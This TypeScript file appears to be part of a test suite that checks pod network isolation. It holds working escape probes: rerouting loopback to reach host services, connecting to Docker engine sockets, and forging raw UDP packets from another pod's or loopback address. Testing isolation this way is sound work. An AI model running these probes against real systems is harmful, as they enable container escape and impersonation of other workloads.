/** Ways out by the network: other pods' names, this host's own services. */
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { createConnection } from 'node:net';
import { networkInterfaces } from 'node:os';
import { type Attack, call, failure, victim } from './attack.ts';

async function connects(where: { host?: string; port?: number; path?: string }): Promise<boolean> {
  const options = where.path === undefined ? { host: where.host, port: where.port ?? 0 } : { path: where.path };
  const socket = createConnection({ ...options, timeout: 500 });
  socket.on('timeout', () => socket.destroy(new Error('no answer')));
  try {
    await once(socket, 'connect');
    return true;
  } catch {
    return false;
  } finally {
    socket.destroy();
  }
}

const ip = (...words: string[]): string | undefined =>
  failure(() => execFileSync('/bin/ip', words, { stdio: 'ignore' }));

/** UDP over IPv4 with any sender (RFC 791, RFC 768), from a raw socket. */
function forged(from: string, to: string, port: number, text: string): void {
  const data = Buffer.from(text);
  const packet = Buffer.alloc(28 + data.length);
  packet[0] = 0x45;
  packet.writeUInt16BE(packet.length, 2);
  packet[8] = 64;
  packet[9] = 17;
  packet.set(from.split('.').map(Number), 12);
  packet.set(to.split('.').map(Number), 16);
  packet.writeUInt16BE(4000, 20);
  packet.writeUInt16BE(port, 22);
  packet.writeUInt16BE(8 + data.length, 24);
  packet.set(data, 28);
  const address = Buffer.alloc(16);
  address.writeUInt16LE(2, 0);
  address.set(to.split('.').map(Number), 4);
  call('sendto', call('socket', 2, 3, 255), packet, packet.length, 0, address, 16);
}

export const networkAttacks: Record<string, Attack> = {
  'reach services on this host’s loopback': async () => {
    const port = Number(victim('PORT'));
    ip('addr', 'del', '127.0.0.1/8', 'dev', 'lo');
    ip('route', 'add', '127.0.0.1/32', 'via', victim('GATEWAY'), 'dev', 'eth0');
    const answers: Promise<string[]>[] = [];
    for (const host of [victim('GATEWAY'), '127.0.0.1', '127.0.0.2', '::1', '0.0.0.0'])
      answers.push(connects({ host, port }).then((answered) => (answered ? [host] : [])));
    const open = (await Promise.all(answers)).flat();
    return open.length === 0 ? undefined : `port ${port} answered at ${open.join(', ')}`;
  },
  'reach sockets of the engine': async () => {
    for (const path of [victim('SOCKET'), '/var/run/docker.sock', '/run/docker.sock', `\0${victim('ABSTRACT')}`])
      if (await connects({ path })) return `${path} answered`;
    return undefined;
  },
  // Whether it arrived is for the listener to say: see the test.
  'send in the name of another pod': () => {
    const own = networkInterfaces()['eth0']?.find(({ family }) => family === 'IPv4')?.address ?? '';
    forged(own, victim('LISTENER'), 7000, 'true raw');
    failure(() => forged(victim('NEIGHBOUR'), victim('LISTENER'), 7000, 'forged raw'));
    ip('addr', 'add', `${victim('NEIGHBOUR')}/32`, 'dev', 'eth0');
    const words = ['/attack/listener.fixture.ts', victim('LISTENER'), victim('NEIGHBOUR'), 'forged address'];
    failure(() => execFileSync(process.execPath, words, { stdio: 'ignore' }));
    failure(() => forged('127.0.0.1', victim('LISTENER'), 7000, 'forged loopback'));
    return undefined;
  },
};
